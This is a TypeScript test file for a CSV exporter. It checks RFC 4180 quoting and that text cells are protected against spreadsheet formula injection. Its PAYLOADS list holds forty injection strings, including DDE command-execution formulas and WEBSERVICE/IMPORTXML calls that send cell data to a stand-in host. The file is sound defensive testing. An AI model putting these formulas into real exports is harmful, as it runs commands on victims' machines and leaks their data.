import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvText, toCsv, withoutFormula } from './csv.ts'
import type { ExportedTable, ExportedValue } from './exported-table.ts'

/** An RFC 4180 reader that shares no code with the writer: one character at a time. */
function readCsv(text: string): string[][] {
  const lines: string[][] = []
  let line: string[] = []
  let cell = ''
  let quoted = false
  for (let at = 0; at < text.length; at++) {
    const sign = text[at]
    if (quoted) {
      if (sign !== '"') cell += sign
      else if (text[at + 1] === '"') cell += text[++at]
      else quoted = false
    } else if (sign === '"' && cell === '') quoted = true
    else if (sign === ',') {
      line.push(cell)
      cell = ''
    } else if (sign === '\r' && text[at + 1] === '\n') {
      lines.push([...line, cell])
      line = []
      cell = ''
      at++
    } else cell += sign
  }
  if (cell !== '' || line.length > 0 || quoted) throw new Error('the text ends within a line')
  return lines
}

const asText = (text: string): ExportedValue => ({ kind: 'text', text })
const asNumber = (digits: string): ExportedValue => ({ kind: 'number', digits })
const table = (...rows: ExportedValue[][]): ExportedTable => ({
  columns: (rows[0] ?? []).map((_, index) => ({ id: `c${index}`, title: `C${index}`, isNumber: false })),
  rows: rows.map(row => row.map(value => ({ value, shown: '' }))),
})
const cellsOf = (...rows: ExportedValue[][]) => readCsv(toCsv(table(...rows))).slice(1)

/** Forty ways to make a spreadsheet run its content. */
const PAYLOADS = [
  '=1+1',
  '=SUM(A1:A9)',
  '=cmd|"/c calc"!A0',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","Click")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example/?"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '=2+5+cmd|"/C calc"!A0',
  '=A1,B1',
  '="a"&"b"',
  '==1',
  '=',
  '+1+1',
  '+cmd|"/C calc"!A0',
  '+49 69 123',
  '+',
  '-1+1',
  '-2+3+cmd|"/C calc"!A0',
  '-1.5',
  '-',
  '@SUM(1+1)',
  '@cmd',
  '@',
  '\t=1+1',
  '\tplain',
  '\r=1+1',
  '\rplain',
  '\n=1+1',
  '\nplain',
  '\r\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '   @SUM(1)',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '=1+1\r\n=2+2,"x"',
]

describe('X7 no text is a formula', () => {
  test('there are forty payloads, all different', () => expect(new Set(PAYLOADS).size).toBe(40))

  test.each(PAYLOADS)('%j gets an apostrophe and is read back whole', payload => {
    expect(cellsOf([asText('before'), asText(payload), asText('after')])).toEqual([
      ['before', `'${payload}`, 'after'],
    ])
  })

  test.each(PAYLOADS)('%j is harmless in a heading too', payload => {
    const headed: ExportedTable = { columns: [{ id: 'a', title: payload, isNumber: true }], rows: [] }
    expect(readCsv(toCsv(headed))).toEqual([[`'${payload}`]])
  })

  test.each(['a=1', '1-2', 'S&P 500', "'quoted", 'user@example.com', 'Yield, %', '−0.12', '–', '', 'ｘ＝1'])(
    '%j stays unchanged',
    text => {
      expect(withoutFormula(text)).toBe(text)
    },
  )

  test.each(['-1.5', '0', '1000000', '-0.000000000000000000000000000001'])(
    'the number %s stays a number',
    digits => {
      expect(toCsv(table([asNumber(digits)]))).toBe(`C0\r\n${digits}\r\n`)
    },
  )
})

describe('X7 CSV after RFC 4180', () => {
  test.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "yes"', '"say ""yes"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    [' padded ', '" padded "'],
    ['semi;colon', 'semi;colon'],
  ])('%j is written %s', (text, expected) => {
    expect(csvText(text)).toBe(expected)
  })

  test('every line ends with CRLF, the headings come first', () => {
    expect(toCsv(table([asText('a'), null, asNumber('1')], [null, null, null]))).toBe(
      'C0,C1,C2\r\na,,1\r\n,,\r\n',
    )
  })

  test('starts with the byte order mark only on request', () => {
    expect(toCsv(table([asText('a')]), { bom: true })).toBe('\uFEFFC0\r\na\r\n')
    expect(toCsv(table([asText('a')]))).toBe('C0\r\na\r\n')
  })

  test('any texts are read back, except for the apostrophe', () => {
    const anyText = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({
        unit: fc.constantFrom('"', ',', '\r', '\n', '=', '+', '-', '@', '\t', ' ', ';', 'a', "'"),
      }),
      fc.constantFrom(...PAYLOADS),
    )
    fc.assert(
      fc.property(fc.array(fc.tuple(anyText, anyText), { minLength: 1 }), rows => {
        const read = cellsOf(...rows.map(row => row.map(asText)))
        expect(read).toEqual(rows.map(row => row.map(withoutFormula)))
        for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/)
      }),
    )
  })
})
